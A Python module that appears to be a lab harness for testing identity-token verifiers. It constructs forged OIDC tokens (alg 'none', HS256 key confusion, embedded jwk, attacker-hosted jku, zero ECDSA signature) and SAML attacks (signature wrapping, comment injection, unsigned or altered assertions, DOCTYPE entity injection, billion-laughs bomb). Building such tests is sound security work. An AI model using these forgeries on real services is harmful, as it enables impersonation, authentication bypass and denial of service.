"""Attacks on federation, each with the attacker's token really built. What they attack is the verifier; it must hold.

Those on OIDC take the issuer that is imitated and the claims wanted, and use only what of the issuer is public. Those
on SAML start from a response that the attacker may have, signed in their own name; to sign as another identity
provider with keys of one's own there is `SamlProvider.posing_as`.
"""

from __future__ import annotations

import copy
import hashlib
import hmac
import json
from base64 import b64decode, urlsafe_b64decode
from collections.abc import Mapping
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from lxml import etree

from stssim.lab.identity.oidc import OidcProvider, segment
from stssim.lab.identity.saml import ASSERTION, DSIG, PROTOCOL, encode
from stssim.lab.identity.signing import base64url, jwk

Claims = Mapping[str, Any]


def without_signature(issuer: OidcProvider, claims: Claims, algorithm: str = "none") -> str:
    """A token that says it needs no signature."""
    return f"{segment({'alg': algorithm, 'typ': 'JWT', 'kid': issuer.kid()})}.{segment(claims)}."


def hmac_with_public_key(issuer: OidcProvider, claims: Claims) -> str:
    """A token by HS256 whose secret is the issuer's public key, for a verifier that uses one key for any algorithm."""
    secret = issuer.key().public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    head = f"{segment({'alg': 'HS256', 'typ': 'JWT', 'kid': issuer.kid()})}.{segment(claims)}"
    return f"{head}.{base64url(hmac.new(secret, head.encode(), hashlib.sha256).digest())}"


def embedded_key(issuer: OidcProvider, claims: Claims, attacker: OidcProvider) -> str:
    """A token that brings the key it is signed with (`jwk`), under the issuer's key id."""
    own = jwk(attacker.key(), issuer.kid(), attacker.algorithm)
    return attacker.sign(claims, {"kid": issuer.kid(), "jwk": own})


def key_elsewhere(issuer: OidcProvider, claims: Claims, attacker: OidcProvider) -> str:
    """A token that says where its key is to be fetched (`jku`): at the attacker's."""
    return attacker.sign(claims, {"kid": attacker.kid(), "jku": f"{attacker.url}/.well-known/jwks", "iss": issuer.url})


def foreign_key(issuer: OidcProvider, claims: Claims, attacker: OidcProvider) -> str:
    """A token in the issuer's name and under its key id, signed with the key of another issuer."""
    return attacker.sign(claims, {"kid": issuer.kid()})


def altered(token: str, **claims: Any) -> str:
    """A true token with other claims, and its signature left as it was."""
    header, payload, signature = token.split(".")
    told = json.loads(urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    return f"{header}.{segment(told | claims)}.{signature}"


def empty_curve_point(issuer: OidcProvider, claims: Claims) -> str:
    """A token whose ECDSA signature is all zeros, which a careless implementation takes for any message."""
    head = f"{segment({'alg': 'ES256', 'typ': 'JWT', 'kid': issuer.kid()})}.{segment(claims)}"
    return f"{head}.{base64url(bytes(64))}"


def wrapped(assertion: str, subject: str, variant: int) -> str:
    """Signature wrapping: the signed assertion is moved aside and a forged one, for `subject`, put where it was.

    Variants 1 to 6 are the places to which the signed one goes: before the forged one, after it, inside it, inside the
    forged one's signature, in the response's extensions, and in an `Object` of the signature, left with the forged one.
    """
    root = _parsed(assertion)
    signed = _assertion(root)
    forged = _forged(signed, subject)
    place = list(root).index(signed)
    root.remove(signed)
    root.insert(place, forged)
    if variant in {1, 2}:
        root.insert(place + variant - 1, signed)
    elif variant == 3:
        forged.append(signed)
    elif variant == 4:
        signature = copy.deepcopy(signed.find(f"{{{DSIG}}}Signature"))
        signature.append(signed)
        forged.insert(1, signature)
    elif variant == 5:
        extensions = etree.SubElement(root, f"{{{PROTOCOL}}}Extensions")
        extensions.append(signed)
    elif variant == 6:
        signature = signed.find(f"{{{DSIG}}}Signature")
        signed.remove(signature)
        forged.insert(1, signature)
        etree.SubElement(signature, f"{{{DSIG}}}Object").append(signed)
    else:
        raise ValueError(f"There is no variant {variant} of signature wrapping; there are 1 to 6.")
    return encode(root)


def same_id(assertion: str, subject: str) -> str:
    """A forged assertion with the id of the signed one, whose signature it carries."""
    root = _parsed(assertion)
    signed = _assertion(root)
    forged = _forged(signed, subject)
    forged.set("ID", signed.get("ID", ""))
    forged.insert(1, copy.deepcopy(signed.find(f"{{{DSIG}}}Signature")))
    root.insert(list(root).index(signed), forged)
    return encode(root)


def second_assertion(assertion: str, subject: str) -> str:
    """A forged, unsigned assertion beside the signed one."""
    root = _parsed(assertion)
    root.append(_forged(_assertion(root), subject))
    return encode(root)


def comment_in_subject(assertion: str, cut: int) -> str:
    """A comment put into the subject's name, which many parsers read only up to it. No signature sees comments."""
    root = _parsed(assertion)
    name = root.find(f".//{{{ASSERTION}}}NameID")
    text, name.text = name.text, name.text[:cut]
    comment = etree.Comment("cut")
    comment.tail = text[cut:]
    name.append(comment)
    return encode(root)


def signature_removed(assertion: str, subject: str) -> str:
    """The assertion rewritten for `subject`, and no signature at all."""
    root = _parsed(assertion)
    signed = _assertion(root)
    root.replace(signed, _forged(signed, subject))
    return encode(root)


def subject_changed(assertion: str, subject: str) -> str:
    """The signed assertion with another subject, and its signature left as it was."""
    root = _parsed(assertion)
    root.find(f".//{{{ASSERTION}}}NameID").text = subject
    return encode(root)


def with_document_type(assertion: str, declaration: str, subject: str) -> str:
    """The response behind a document type declaration, and its subject's name changed, e.g. to an entity declared
    there.
    """
    text = b64decode(assertion)
    name = _parsed(assertion).findtext(f".//{{{ASSERTION}}}NameID")
    return encode(declaration.encode() + text.replace(f">{name}<".encode(), f">{subject}<".encode()))


def many_entities() -> str:
    """A document type whose entities grow a billionfold."""
    layers = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE samlp [<!ENTITY l0 "lol">{layers}]>'


def _parsed(assertion: str) -> Any:
    return etree.fromstring(b64decode(assertion))


def _assertion(root: Any) -> Any:
    return root.find(f"{{{ASSERTION}}}Assertion")


def _forged(signed: Any, subject: str) -> Any:
    """A copy for somebody else, with an id of its own and no signature."""
    forged = copy.deepcopy(signed)
    forged.set("ID", "_forged")
    forged.remove(forged.find(f"{{{DSIG}}}Signature"))
    forged.find(f".//{{{ASSERTION}}}NameID").text = subject
    return forged
